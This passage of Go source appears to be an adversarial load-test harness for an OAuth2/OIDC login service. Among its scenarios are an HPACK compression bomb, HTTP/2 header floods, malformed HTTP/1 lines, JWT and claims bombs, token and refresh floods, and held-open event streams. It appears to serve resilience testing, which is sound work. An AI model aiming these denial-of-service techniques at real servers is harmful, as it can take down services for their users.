		sleep(ctx, 200*time.Millisecond)
	}
}

// events follows a login until it ends; false if it may not.
func (w *World) events(ctx context.Context, n Net, id, ver string) bool {
	c, err := w.rawDial(ctx, "127.0.0.1", false)
	if err != nil {
		w.stat("no connection: " + cutErr(err))
		return true
	}
	defer c.Close()
	stop := context.AfterFunc(ctx, func() { c.Close() })
	defer stop()
	fmt.Fprintf(c, "GET /api/v2/logins/%s/events HTTP/1.1\r\nHost: %s\r\nX-Forwarded-For: %s\r\nCode-Verifier: %s\r\n\r\n", id, w.addr, n.IP, ver)
	buf := make([]byte, 4096)
	k, _ := c.Read(buf)
	st := string(buf[:k])
	w.stat("stream " + cut(st, 12))
	if !strings.HasPrefix(st, "HTTP/1.1 200") {
		return false
	}
	io.Copy(io.Discard, c)
	w.stat("stream over")
	return true
}

func streamsChurn(ctx context.Context, w *World) {
	w.N = 100
	type fl struct {
		n       Net
		id, ver string
	}
	var mu sync.Mutex
	var fs []fl
	w.swarm(ctx, 32, 400, func(i int) {
		n := w.net(i)
		b := w.attacker(ctx, n)
		b.jar = nil
		ver := token(33)
		r := w.count(w.apiPost(b, "/api/v2/logins", map[string]any{"client_id": "app", "email": fmt.Sprintf("s%d@s%d.example", i, i), "code_challenge": challenge(ver), "code_challenge_method": "S256"}))
		if r != nil {
			if k := strings.Index(r.Body, `"flow_id":"`); k >= 0 {
				mu.Lock()
				fs = append(fs, fl{n, r.Body[k+11 : k+47], ver})
				mu.Unlock()
			}
		}
	})
	if len(fs) == 0 {
		w.notef("no flow")
		<-ctx.Done()
		return
	}
	w.swarm(ctx, 400, 0, func(i int) {
		f := fs[i%len(fs)]
		sctx, cancel := context.WithTimeout(ctx, time.Duration(100+rand.IntN(3000))*time.Millisecond)
		w.events(sctx, f.n, f.id, f.ver)
		cancel()
	})
}

// ownSession: an attacker with accounts, whose sessions fetch codes and tokens as fast as they can.
func ownSession(ctx context.Context, w *World) {
	w.N = 4
	bs, _ := w.signUpAttackers(ctx, 4)
	if len(bs) == 0 {
		return
	}
	w.swarm(ctx, 32, 0, func(i int) {
		o := bs[i%len(bs)]
		b := w.attacker(ctx, o.net)
		b.jar = o.jar
		q := w.authRequest([]string{"web", "conf", "jwt"}[i%3])
		r := w.count(b.get(q.url))
		if !out(w, r) || r.Loc.Query().Get("code") == "" {
			if r != nil && r.Loc != nil {
				w.stat("client gets " + r.Loc.Query().Get("error"))
			}
			return
		}
		if i%3 == 0 {
			w.atkForm(ctx, o.net, "/oauth2/token", url.Values{"grant_type": {"authorization_code"}, "code": {r.Loc.Query().Get("code")}, "redirect_uri": {webRedir}, "code_verifier": {q.verifier}, "client_id": {"web"}}, nil)
		}
	})
	for _, o := range bs[:1] {
		b := o.fresh(context.Background())
		t0 := time.Now()
		r, err := b.get(w.base + "/account/access")
		if err == nil {
			for _, f := range forms(r.Body) {
				if strings.Contains(f.Action, "access") {
					b.submit(r, f, nil)
					break
				}
			}
		}
		w.notef("remove access: %s (%v)", time.Since(t0).Round(time.Millisecond), b.trace)
	}
}

func ownRefresh(ctx context.Context, w *World) {
	w.N = 4
	type acc struct {
		mu sync.Mutex
		t  string
		n  Net
	}
	var as []*acc
	for i := range 4 {
		b := w.person(ctx, attackerNet(6000+i))
		t := 0
		tk, err := w.signIn(ctx, b, "web", fmt.Sprintf("ref%d@attacker.example", i), false, &t)
		b.close()
		if err != nil {
			w.notef("own refresh: %v", err)
			continue
		}
		as = append(as, &acc{t: tk.Refresh, n: attackerNet(6000 + i)})
	}
	if len(as) == 0 {
		return
	}
	w.swarm(ctx, 16, 0, func(i int) {
		a := as[i%len(as)]
		a.mu.Lock()
		defer a.mu.Unlock()
		r := w.atkForm(ctx, a.n, "/oauth2/token", url.Values{"grant_type": {"refresh_token"}, "refresh_token": {a.t}, "client_id": {"web"}}, nil)
		if r != nil && r.Status == 200 {
			if k := strings.Index(r.Body, `"refresh_token":"`); k >= 0 {
				s := r.Body[k+17:]
				a.t = s[:strings.Index(s, `"`)]
			}
		}
	})
}

func assertions(from string) func(context.Context, *World) {
	return func(ctx context.Context, w *World) {
		w.N = 100
		w.swarm(ctx, 32, 0, func(i int) {
			n := w.net(i)
			if from != "" {
				n = Net{IP: from}
			}
			kid := "k1"
			if i%2 == 0 {
				kid = token(6)
			}
			w.atkForm(ctx, n, "/oauth2/token", url.Values{"grant_type": {"authorization_code"}, "code": {token(32)}, "redirect_uri": {webRedir}, "client_id": {"jwt"},
				"client_assertion_type": {"urn:ietf:params:oauth:client-assertion-type:jwt-bearer"}, "client_assertion": {w.assertion(kid, false)}}, nil)
		})
	}
}

func garbage(ctx context.Context, w *World) {
	w.N = 100
	real := strings.Split(w.users[0].Access, ".")
	if len(real) != 3 {
		real = []string{"a", "b", "c"}
	}
	w.swarm(ctx, 64, 0, func(i int) {
		n := w.net(i)
		forged := real[0] + "." + real[1] + "." + token(64)
		switch i % 6 {
		case 0:
			w.atkForm(ctx, n, "/oauth2/token", url.Values{"grant_type": {"refresh_token"}, "refresh_token": {token(32)}, "client_id": {"web"}}, nil)
		case 1:
			w.atkForm(ctx, n, "/oauth2/introspect", url.Values{"token": {forged}}, map[string]string{"Authorization": "Basic " + base64.StdEncoding.EncodeToString([]byte("rs:"+token(12)))})
		case 2:
			w.atkForm(ctx, n, "/oauth2/revoke", url.Values{"token": {token(32)}, "client_id": {"web"}}, nil)
		case 3:
			w.atkGet(ctx, n, "/oauth2/userinfo", map[string]string{"Authorization": "Bearer " + forged})
		case 4:
			w.atkForm(ctx, n, "/oauth2/token", url.Values{"grant_type": {"authorization_code"}, "code": {token(32)}, "redirect_uri": {webRedir}, "client_id": {"web"}, "code_verifier": {token(33)}}, nil)
		default:
			w.atkForm(ctx, n, "/oauth2/token", url.Values{"grant_type": {"refresh_token"}, "refresh_token": {strings.Repeat("r", 30000)}, "client_id": {"app"}}, nil)
		}
	})
}

func buttons(ctx context.Context, w *World) {
	w.N = 100
	w.swarm(ctx, 128, 0, func(i int) {
		n := w.net(i)
		id := []string{"dead", "slow", "good"}[i%3]
		if i%2 == 0 {
			b := w.attacker(ctx, n)
			b.jar = nil
			w.count(w.apiPost(b, "/api/v1/auth/oidc/"+id+"/start", map[string]any{"client_id": "app", "redirect_uri": "https://app.people.example/callback", "code_challenge": challenge(token(33)), "code_challenge_method": "S256"}))
			return
		}
		b := w.attacker(ctx, n)
		if page := w.count(b.get(w.base + "/login")); page != nil {
			if _, err := w.press(b, page, id); err == nil {
				w.stat("pressed " + id)
			} else {
				w.stat("not pressed " + id)
			}
		}
	})
}

// slowProvider: sign-ins come back from a provider whose token endpoint hangs.
func slowProvider(ctx context.Context, w *World) {
	w.N = 100
	w.swarm(ctx, 400, 0, func(i int) {
		b := w.attacker(ctx, w.net(i))
		page := w.count(b.get(w.base + "/login"))
		if page == nil {
			return
		}
		r, err := w.press(b, page, "slow")
		if err != nil {
			w.stat("not pressed")
			sleep(ctx, 50*time.Millisecond)
			return
		}
		w.stat("pressed")
		x := w.count(b.get(w.up.callback(r.Loc, "x@people.example")))
		if x != nil {
			w.stat(fmt.Sprintf("callback %d", x.Status))
		}
	})
}

// thirteen sends requests of 13 bytes: a frame whose four fields are all in the table.
func thirteen(plain bool) func(context.Context, *World) {
	return func(ctx context.Context, w *World) {
		w.N = 16
		each(16, func(k int) {
			for ctx.Err() == nil {
				h, err := w.h2(ctx, directAttacker(k).IP, 1<<20)
				if err != nil {
					w.stat("no connection: " + cutErr(err))
					sleep(ctx, 500*time.Millisecond)
					continue
				}
				stop := context.AfterFunc(ctx, func() { h.c.Close() })
				slots := make(chan bool, 32)
				dead := make(chan bool)
				go func() {
					h.read(func(_ uint32, st string) {
						w.stat(st)
						select {
						case <-slots:
						default:
						}
					})
					close(dead)
				}()
				sch := byte(0x87)
				if plain {
					sch = 0x86
				}
				var b bytes.Buffer
				e := hpack.NewEncoder(&b)
				e.WriteField(hf{Name: ":authority", Value: "x"}) // another host: refused before all else, and logged
				first := append([]byte{0x83, sch, 0x84}, b.Bytes()...)
				again := []byte{0x83, sch, 0x84, 0xbe}
				block := first
			loop:
				for ctx.Err() == nil {
					var out bytes.Buffer
					fr := http2.NewFramer(&out, nil)
					for range 16 { // in one write, so that TLS adds little
						select {
						case slots <- true:
							fr.WriteHeaders(http2.HeadersFrameParam{StreamID: h.id, BlockFragment: block, EndStream: true, EndHeaders: true})
							h.id += 2
							block = again
						case <-dead:
							break loop
						case <-ctx.Done():
							break loop
						}
					}
					h.mu.Lock()
					_, err := h.c.Write(out.Bytes())
					h.mu.Unlock()
					if err != nil {
						break
					}
				}
				stop()
				h.c.Close()
				<-dead
				sleep(ctx, 20*time.Millisecond)
			}
		})
	}
}

func tinyHTTP1(ctx context.Context, w *World) {
	w.N = 16
	lines := []string{"G / HTTP/1.1\r\nHost:\r\n\r\n", "X\r\n\r\n", "GET / HTTP/1.0\r\n\r\n", "A / HTTP/1.1\r\nHost:x\r\n\r\n", "\r\n\r\n\r\nGET /\xff HTTP/1.1\r\n\r\n", "GET * HTTP/1.1\r\nHost:x\r\n\r\n"}
	each(16, func(k int) {
		l := lines[k%len(lines)]
		for ctx.Err() == nil {
			c, err := w.rawDial(ctx, directAttacker(k).IP, false)
			if err != nil {
				w.stat("no connection: " + cutErr(err))
				sleep(ctx, 200*time.Millisecond)
				continue
			}
			stop := context.AfterFunc(ctx, func() { c.Close() })
			buf := make([]byte, 4096)
			for ctx.Err() == nil {
				if _, err := io.WriteString(c, l); err != nil {
					break
				}
				c.SetReadDeadline(time.Now().Add(3 * time.Second))
				n, err := c.Read(buf)
				w.stat(fmt.Sprintf("%q: %s", l, cut(string(buf[:n]), 12)))
				if err != nil {
					break
				}
			}
			stop()
			c.Close()
		}
	})
}

// jwtBombs: what is dear to look at: request objects, hints, deep claims, long lists.
func jwtBombs(ctx context.Context, w *World) {
	w.N = 100
	jws := func(alg string, n int) string {
		return b64([]byte(`{"alg":"`+alg+`","kid":"k1"}`)) + "." + b64([]byte(`{"iss":"jwt","aud":"x","redirect_uri":"https://x","a":"`+strings.Repeat("a", n)+`"}`)) + "." + token(64)
	}
	deep := strings.Repeat(`{"a":`, 1200) + "1" + strings.Repeat("}", 1200)
	w.swarm(ctx, 64, 0, func(i int) {
		base := "/oauth2/authorize?response_type=code&client_id=jwt&redirect_uri=" + url.QueryEscape(webRedir) + "&scope=openid&code_challenge_method=S256&code_challenge=" + challenge("v")
		var p string
		switch i % 6 {
		case 0:
			p = base + "&request=" + jws("ES256", 3000)
		case 1:
			p = base + "&id_token_hint=" + jws("RS256", 3000)
		case 2:
			p = base + "&claims=" + url.QueryEscape(deep[:min(len(deep), 2400)])
		case 3:
			p = base + "&ui_locales=" + url.QueryEscape(strings.Repeat("fr-CA en ", 600))
		case 4:
			p = base + "&acr_values=" + url.QueryEscape(strings.Repeat("a b ", 1500)) + "&prompt=none"
		default:
			p = "/oauth2/logout?id_token_hint=" + jws("RS256", 3000) + "&ui_locales=" + strings.Repeat("fr+", 900)
		}
		w.atkGet(ctx, w.net(i), p, navigate)
	})
}

// knownHang: attackers have accounts and known devices at domains of their own, which then stop to answer.
func knownHang(ctx context.Context, w *World) {
	w.N = 48
	var mu sync.Mutex
	var bs []*Browser
	var es []string
	w.swarm(ctx, 8, 48, func(i int) {
		t := 0
		b := w.person(ctx, attackerNet(4000+i))
		e := fmt.Sprintf("own@k%d.slow.example", i)
		if _, err := w.signIn(ctx, b, "web", e, false, &t); err != nil {
			w.stat("no own account: " + cut(err.Error(), 60))
			return
		}
		w.signOut(b)
		b.close()
		mu.Lock()
		defer mu.Unlock()
		bs, es = append(bs, b), append(es, e)
	})
	w.notef("%d attackers with known devices", len(bs))
	if len(bs) == 0 {
		return
	}
	w.sink.setRule(suffix("slow.example", "hangdata"))
	w.swarm(ctx, 16, len(bs)*12, func(i int) {
		o := bs[i%len(bs)]
		b := w.attacker(ctx, o.net)
		b.jar = o.jar
		page := w.count(b.get(w.base + w.fatURL(100, "")))
		if page == nil {
			return
		}
		if f, n, ok := emailForm(page.Body); ok {
			w.count(b.submit(page, f, map[string]string{n: es[i%len(bs)]}))
		} else {
			w.stat("no form")
		}
	})
	<-ctx.Done()
}

// ownConsent: signed-in attackers leave requests of a client that needs consent.
func ownConsent(ctx context.Context, w *World) {
	w.N = 8
	bs, _ := w.signUpAttackers(ctx, 8)
	if len(bs) == 0 {
		return
	}
	w.swarm(ctx, 48, 0, func(i int) {
		o := bs[i%len(bs)]
		b := w.attacker(ctx, o.net)
		b.jar = o.jar
		p := strings.Replace(w.fatURL(7000, ""), "client_id=web", "client_id=third", 1)
		p = strings.Replace(p, url.QueryEscape(webRedir), url.QueryEscape("https://third.example/callback"), 1)
		w.count(b.get(w.base + p))
	})
}

// hpackBomb: a header of the table, named some thousand times by a byte each.
func hpackBomb(ctx context.Context, w *World) {
	w.N = 100
	each(100, func(k int) {
		for ctx.Err() == nil {
			h, err := w.h2(ctx, directAttacker(k).IP, 65535)
			if err != nil {
				w.stat("no connection: " + cutErr(err))
				sleep(ctx, 200*time.Millisecond)
				continue
			}
			stop := context.AfterFunc(ctx, func() { h.c.Close() })
			over := make(chan bool)
			go func() {
				err := h.read(func(_ uint32, st string) { w.stat(st) })
				w.stat("ends: " + cutErr(err))
				close(over)
			}()
			h.open(w.h2fields("GET", "/login", hf{Name: "x-a", Value: strings.Repeat("a", 3900)}), nil, true)
			for i := 0; i < 50; i++ {
				h.mu.Lock()
				h.buf.Reset()
				for _, f := range w.h2fields("POST", "/oauth2/token") {
					h.enc.WriteField(f)
				}
				h.enc.WriteField(hf{Name: "x-a", Value: strings.Repeat("a", 3900)})
				blk := append(append([]byte{}, h.buf.Bytes()...), bytes.Repeat([]byte{0xbe}, 14000)...)
				err := h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: h.id, BlockFragment: blk, EndHeaders: true})
				h.id += 2
				h.mu.Unlock()
				if err != nil {
					break
				}
				sleep(ctx, 10*time.Millisecond)
			}
			sleep(ctx, 2*time.Second)
			stop()
			h.c.Close()
			<-over
		}
	})
}
